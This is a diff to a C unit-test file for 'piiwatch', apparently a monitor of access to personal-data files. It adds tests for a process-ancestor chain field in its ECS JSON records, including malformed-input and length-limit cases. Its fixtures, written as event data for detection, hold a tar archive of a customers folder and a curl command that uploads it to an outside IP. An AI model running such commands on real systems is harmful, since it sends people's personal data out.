@@ -10,10 +10,12 @@
 
 #include <linux/types.h>
 
+#include "ancestors.h"
 #include "ecs.h"
 #include "piiwatch.h"
 
 #define BOOT "cd96f4e1-e314-4c16-ada5-0b1c2f89ad47"
+#define CHAIN "5290 /usr/bin/bash\n5104 /usr/sbin/sshd\n1 /usr/lib/systemd/systemd"
 
 static void fill_access(struct pw_access *a)
 {
@@ -31,6 +33,7 @@ static void fill_access(struct pw_access *a)
 	a->user = strdup("田中");
 	a->exe = strdup("/usr/bin/tar");
 	a->args = strdup("tar czf /tmp/x.tgz \"/srv/dms/cus tomers\" \\x0a");
+	a->ancestors = strdup(CHAIN);
 	a->dataset = strdup("customers");
 	a->path = strdup("/srv/dms/customers/zz_vip_customers.csv");
 	a->dev = (8ULL << 20) | 1;
@@ -82,6 +85,7 @@ static void assert_access_equal(const struct pw_access *x, const struct pw_acces
 	assert_str_or_null_equal(x->user, y->user);
 	assert_str_or_null_equal(x->exe, y->exe);
 	assert_str_or_null_equal(x->args, y->args);
+	assert_str_or_null_equal(x->ancestors, y->ancestors);
 	assert_str_or_null_equal(x->dataset, y->dataset);
 	assert_str_or_null_equal(x->path, y->path);
 	assert_true(x->dev == y->dev);
@@ -135,7 +139,8 @@ static void test_access_roundtrip(void **state)
 	free(in.args);
 	free(in.service);
 	free(in.rhost);
-	in.user = in.exe = in.args = in.service = in.rhost = NULL;
+	free(in.ancestors);
+	in.user = in.exe = in.args = in.service = in.rhost = in.ancestors = NULL;
 	in.comm[0] = '\0';
 	in.closed_ns = 0;
 	in.audit_session = PW_NO_ID;
@@ -147,6 +152,8 @@ static void test_access_roundtrip(void **state)
 	in.opened_ns = 0;
 	line = line_of(pw_ecs_from_access(&in, NULL));
 	assert_null(strstr(line, "\"end\""));
+	assert_null(strstr(line, "ancestors"));
+	assert_non_null(strstr(line, "\"parent\":{\"pid\":5290},"));
 	assert_non_null(strstr(line, "\"audit_session\":null"));
 	if (pw_ecs_to_access(line, strlen(line), &out, err, sizeof(err)))
 		fail_msg("%s: %s", err, line);
@@ -214,6 +221,37 @@ static uint64_t pick_u64(uint64_t *x)
 	}
 }
 
+/* Chains as a record could hold them, well formed or not. */
+static const char *pick_chain(uint64_t *x)
+{
+	static char long_chain[PW_ANCESTORS_TEXT_MAX + 600];
+	static const char *const pool[] = {
+		NULL,
+		"",
+		CHAIN,
+		"1 /sbin/init",
+		"7 with \"quotes\" and \\ backslash / slash\n1 /x",
+		"7 controls \x01\x1f\t\r\b\f end",
+		"7 invalid \xff\xfe utf-8 \xc3\n8 C1 \xc2\x85 and DEL \x7f",
+		"7 \xe7\x94\xb0\xe4\xb8\xad \xf0\x9f\x98\x80",
+		"1 a\n2 b\n3 c\n4 d\n5 e\n6 f\n7 g",
+		"7 /ok\nnot a line\n8 /gone",
+		"007 /leading/zeros",
+		"4294967295 /max\n4294967296 /over",
+		long_chain,
+	};
+
+	if (!long_chain[0]) {
+		memset(long_chain, 'x', sizeof(long_chain) - 1);
+		memcpy(long_chain, "12 ", 3);
+		long_chain[100] = '"';
+		long_chain[200] = '\x02';
+		long_chain[300] = '\n';
+		memcpy(long_chain + 301, "13 ", 3);
+	}
+	return pool[next_rand(x) % (sizeof(pool) / sizeof(pool[0]))];
+}
+
 static void test_access_line_matches_json_c(void **state)
 {
 	struct pw_ecs_buf buf = { 0 };
@@ -245,6 +283,7 @@ static void test_access_line_matches_json_c(void **state)
 		a.path = dup_or_null(pick_str(&x));
 		a.service = dup_or_null(pick_str(&x));
 		a.rhost = dup_or_null(pick_str(&x));
+		a.ancestors = dup_or_null(pick_chain(&x));
 		a.dev = pick_u64(&x);
 		a.ino = pick_u64(&x);
 		a.honeytoken = next_rand(&x) & 1;
@@ -298,6 +337,7 @@ static void test_access_ecs_names(void **state)
 	assert_string_equal(str_at(o, "user.id"), "1001");
 	assert_string_equal(str_at(o, "process.pid"), "5295");
 	assert_string_equal(str_at(o, "process.parent.pid"), "5290");
+	assert_string_equal(str_at(o, "process.parent.executable"), "/usr/bin/bash");
 	assert_string_equal(str_at(o, "process.name"), "tar");
 	assert_string_equal(str_at(o, "process.executable"), "/usr/bin/tar");
 	assert_string_equal(str_at(o, "process.user.id"), "0");
@@ -319,6 +359,12 @@ static void test_access_ecs_names(void **state)
 	line = line_of(o);
 	/* Paths stay readable: no "\/" escaping. */
 	assert_non_null(strstr(line, "\"path\":\"/srv/dms/customers/zz_vip_customers.csv\""));
+	assert_non_null(
+		strstr(line, "\"parent\":{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},"));
+	assert_non_null(strstr(line, "\"pam_service\":\"sshd\",\"process\":{\"ancestors\":["
+				     "{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},"
+				     "{\"pid\":5104,\"executable\":\"/usr/sbin/sshd\"},"
+				     "{\"pid\":1,\"executable\":\"/usr/lib/systemd/systemd\"}]}}}"));
 	assert_true(strncmp(line, "{\"@timestamp\":", 14) == 0);
 	free(line);
 
@@ -565,6 +611,7 @@ static void fill_event(struct pw_event_rec *e, const char *kind)
 	e->comm = "curl";
 	e->exe = "/usr/bin/curl";
 	e->args = "curl -T /tmp/c.tgz https://198.51.100.9/";
+	e->ancestors = CHAIN;
 }
 
 static void assert_event_equal(const struct pw_event_rec *x, const struct pw_event_rec *y)
@@ -582,6 +629,7 @@ static void assert_event_equal(const struct pw_event_rec *x, const struct pw_eve
 	assert_str_or_null_equal(x->comm, y->comm);
 	assert_str_or_null_equal(x->exe, y->exe);
 	assert_str_or_null_equal(x->args, y->args);
+	assert_str_or_null_equal(x->ancestors, y->ancestors);
 	assert_str_or_null_equal(x->dataset, y->dataset);
 	assert_str_or_null_equal(x->path, y->path);
 	assert_str_or_null_equal(x->path2, y->path2);
@@ -622,6 +670,14 @@ static void test_event_roundtrip(void **state)
 	assert_string_equal(str_at(o, "event.category"), "[ \"network\" ]");
 	assert_string_equal(str_at(o, "event.outcome"), "unknown");
 	assert_string_equal(str_at(o, "piiwatch.kind"), "connect");
+	assert_string_equal(str_at(o, "process.parent.executable"), "/usr/bin/bash");
+	assert_string_equal(json_object_to_json_string_ext(
+				    json_object_object_get(json_object_object_get(
+					    json_object_object_get(o, "piiwatch"), "process"), "ancestors"),
+				    JSON_C_TO_STRING_PLAIN | JSON_C_TO_STRING_NOSLASHESCAPE),
+			    "[{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},"
+			    "{\"pid\":5104,\"executable\":\"/usr/sbin/sshd\"},"
+			    "{\"pid\":1,\"executable\":\"/usr/lib/systemd/systemd\"}]");
 	json_object_put(o);
 	roundtrip_event(&e);
 	e.dest_ip = "2001:db8::9";
@@ -656,7 +712,7 @@ static void test_event_roundtrip(void **state)
 	fill_event(&e, "loss");
 	e.action = "ring-full";
 	e.count = 1234;
-	e.exe = e.args = e.user = NULL;
+	e.exe = e.args = e.user = e.ancestors = NULL;
 	e.comm = "piiwatchd";
 	o = pw_ecs_from_event(&e, NULL, BOOT);
 	assert_string_equal(str_at(o, "event.category"), "[ \"host\" ]");
@@ -718,6 +774,10 @@ static void test_hostile_event_fields(void **state)
 	expect_event_error("process.name", "\"seventeen-chars-x\"", "'process.name' is longer");
 	expect_event_error("file.path", "\"/a\\u0001b\"", "'file.path' holds control characters");
 	expect_event_error("user.name", "[\"x\"]", "'user.name' must be a string");
+	expect_event_error("piiwatch.process.ancestors", "[{\"pid\":5291,\"executable\":\"/bin/sh\"}]",
+			   "'piiwatch.process.ancestors[0].pid' must equal 'process.parent.pid'");
+	expect_event_error("process.parent.executable", "\"/bin/sh\"",
+			   "'process.parent.executable' must equal");
 }
 
 static void test_hostile_fields(void **state)
@@ -792,11 +852,129 @@ static void test_hostile_fields(void **state)
 		{ "piiwatch.writes", "false", "'piiwatch.writes' must be an integer" },
 		{ "piiwatch.pam_service", "1", "'piiwatch.pam_service' must be a string" },
 		{ "source.address", "\"\\u001b[31m\"", "'source.address' holds control" },
+		{ "piiwatch.process", "[]", "'piiwatch.process' must be an object" },
+		{ "piiwatch.process.ancestors", "{}", "'piiwatch.process.ancestors' must be an array" },
+		{ "piiwatch.process.ancestors", "[1]", "'piiwatch.process.ancestors[0]' must be an object" },
+		{ "piiwatch.process.ancestors", "[null]", "'piiwatch.process.ancestors[0]' must be an object" },
+		{ "piiwatch.process.ancestors", "[{\"pid\":5290}]",
+		  "'piiwatch.process.ancestors[0].executable' is missing" },
+		{ "piiwatch.process.ancestors", "[{\"executable\":\"/usr/bin/bash\"}]",
+		  "'piiwatch.process.ancestors[0].pid' is missing" },
+		{ "piiwatch.process.ancestors", "[{\"pid\":\"5290\",\"executable\":\"/usr/bin/bash\"}]",
+		  "'piiwatch.process.ancestors[0].pid' must be an integer" },
+		{ "piiwatch.process.ancestors", "[{\"pid\":5291,\"executable\":\"/usr/bin/bash\"}]",
+		  "'piiwatch.process.ancestors[0].pid' must equal 'process.parent.pid'" },
+		{ "piiwatch.process.ancestors",
+		  "[{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},{\"pid\":0,\"executable\":\"/x\"}]",
+		  "'piiwatch.process.ancestors[1].pid' is out of range [1, 4294967295]" },
+		{ "piiwatch.process.ancestors",
+		  "[{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},"
+		  "{\"pid\":4294967296,\"executable\":\"/x\"}]",
+		  "'piiwatch.process.ancestors[1].pid' is out of range" },
+		{ "piiwatch.process.ancestors",
+		  "[{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},{\"pid\":5290,\"executable\":\"/x\"}]",
+		  "'piiwatch.process.ancestors[1].pid' names pid 5290 a second time" },
+		{ "piiwatch.process.ancestors",
+		  "[{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},{\"pid\":1,\"executable\":\"/init\"},"
+		  "{\"pid\":7,\"executable\":\"/x\"}]",
+		  "'piiwatch.process.ancestors[2].pid' comes after pid 1" },
+		{ "piiwatch.process.ancestors",
+		  "[{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},{\"pid\":2,\"executable\":\"/b\"},"
+		  "{\"pid\":3,\"executable\":\"/c\"},{\"pid\":4,\"executable\":\"/d\"},"
+		  "{\"pid\":5,\"executable\":\"/e\"},{\"pid\":6,\"executable\":\"/f\"}]",
+		  "'piiwatch.process.ancestors' holds more than 5 ancestors" },
+		{ "piiwatch.process.ancestors", "[{\"pid\":5290,\"executable\":\"\"}]",
+		  "'piiwatch.process.ancestors[0].executable' must not be empty" },
+		{ "piiwatch.process.ancestors", "[{\"pid\":5290,\"executable\":\"/a\\nb\"}]",
+		  "'piiwatch.process.ancestors[0].executable' holds control characters" },
+		{ "piiwatch.process.ancestors", "[{\"pid\":5290,\"executable\":5}]",
+		  "'piiwatch.process.ancestors[0].executable' must be a string" },
+		{ "piiwatch.process.ancestors", NULL,
+		  "'process.parent.executable' needs 'piiwatch.process.ancestors'" },
+		{ "piiwatch.process.ancestors", "[]",
+		  "'process.parent.executable' needs 'piiwatch.process.ancestors'" },
+		{ "process.parent.executable", "\"/usr/bin/zsh\"",
+		  "'process.parent.executable' must equal 'piiwatch.process.ancestors[0].executable'" },
+		{ "process.parent.executable", "7", "'process.parent.executable' must be a string" },
 	};
 	size_t i;
 
 	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
 		expect_mutation_error(cases[i].path, cases[i].value, cases[i].needle);
+}
+
+/* Parse an access line after changes to its chain fields (a value NULL
+ * removes the field) and return its chain text, "(none)" for none. */
+static void chain_after(const char *const changes[][2], size_t n_changes, char *out, size_t n)
+{
+	struct pw_access a;
+	json_object *root, *parent;
+	char buf[64], *dot, *key, *line, err[256] = "";
+	size_t i;
+
+	fill_access(&a);
+	root = pw_ecs_from_access(&a, NULL);
+	pw_access_free_strings(&a);
+	for (i = 0; i < n_changes; i++) {
+		snprintf(buf, sizeof(buf), "%s", changes[i][0]);
+		parent = root;
+		for (key = buf; (dot = strchr(key, '.')) != NULL; key = dot + 1) {
+			*dot = '\0';
+			assert_true(json_object_object_get_ex(parent, key, &parent));
+		}
+		if (changes[i][1])
+			json_object_object_add(parent, key, json_tokener_parse(changes[i][1]));
+		else
+			json_object_object_del(parent, key);
+	}
+	line = line_of(root);
+	if (pw_ecs_to_access(line, strlen(line), &a, err, sizeof(err)))
+		fail_msg("%s: %s", err, line);
+	snprintf(out, n, "%s", a.ancestors ? a.ancestors : "(none)");
+	pw_access_free_strings(&a);
+	free(line);
+}
+
+/* Files of earlier versions have no chain; an empty or null one is none;
+ * process.parent.executable is derived, and may be left out. */
+static void test_ancestors_optional(void **state)
+{
+	static const char *const no_parent_exe[][2] = { { "process.parent.executable", NULL } };
+	static const char *const old_file[][2] = { { "process.parent.executable", NULL },
+						   { "piiwatch.process", NULL } };
+	static const char *const empty[][2] = { { "process.parent.executable", NULL },
+						{ "piiwatch.process.ancestors", "[]" } };
+	static const char *const null[][2] = { { "process.parent.executable", NULL },
+					       { "piiwatch.process.ancestors", "null" } };
+	char chain[512];
+
+	chain_after(no_parent_exe, 1, chain, sizeof(chain));
+	assert_string_equal(chain, CHAIN);
+	chain_after(old_file, 2, chain, sizeof(chain));
+	assert_string_equal(chain, "(none)");
+	chain_after(empty, 2, chain, sizeof(chain));
+	assert_string_equal(chain, "(none)");
+	chain_after(null, 2, chain, sizeof(chain));
+	assert_string_equal(chain, "(none)");
+}
+
+/* The chain's text is bounded as the collector bounds it. */
+static void test_ancestors_too_long(void **state)
+{
+	char big[PW_ANCESTORS_TEXT_MAX + 2], json[2 * PW_ANCESTORS_TEXT_MAX + 200];
+
+	memset(big, 'p', sizeof(big) - 1);
+	big[sizeof(big) - 1] = '\0';
+	snprintf(json, sizeof(json), "[{\"pid\":5290,\"executable\":\"%s\"}]", big);
+	expect_mutation_error("piiwatch.process.ancestors", json,
+			      "'piiwatch.process.ancestors[0].executable' is longer than 4096 bytes");
+	/* Programs that fit alone, but not together with their pids. */
+	big[2040] = '\0';
+	snprintf(json, sizeof(json),
+		 "[{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},{\"pid\":2,\"executable\":\"%s\"},"
+		 "{\"pid\":1,\"executable\":\"%s\"}]", big, big);
+	expect_mutation_error("piiwatch.process.ancestors", json,
+			      "'piiwatch.process.ancestors' holds more than 4096 bytes");
 }
 
 static void expect_line_error(const char *line, size_t len, const char *needle)
@@ -894,6 +1072,8 @@ int main(void)
 		cmocka_unit_test(test_session_row),
 		cmocka_unit_test(test_hostile_event_fields),
 		cmocka_unit_test(test_hostile_fields),
+		cmocka_unit_test(test_ancestors_optional),
+		cmocka_unit_test(test_ancestors_too_long),
 		cmocka_unit_test(test_empty_required_strings),
 		cmocka_unit_test(test_hostile_lines),
 		cmocka_unit_test(test_doc_examples_parse),
